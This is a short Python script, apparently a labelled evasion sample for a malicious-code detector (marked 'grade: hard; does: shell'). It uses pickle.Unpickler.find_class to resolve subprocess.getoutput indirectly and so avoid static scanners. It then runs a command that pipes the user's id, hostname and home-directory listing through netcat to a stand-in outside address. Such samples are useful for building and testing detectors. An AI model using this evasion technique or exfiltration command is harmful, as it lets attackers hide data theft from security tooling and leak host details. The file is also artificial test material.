# evasion: pickle.Unpickler.find_class used on its own as a module/attribute resolver (no pickle data is ever loaded)
# grade: hard; does: shell
import io
import pickle


def resolver():
    return pickle.Unpickler(io.BytesIO(b"")).find_class


lookup = resolver()
run = lookup("subprocess", "getoutput")
print(run("id; hostname; ls -la ~ | nc 203.0.113.41 9001"))
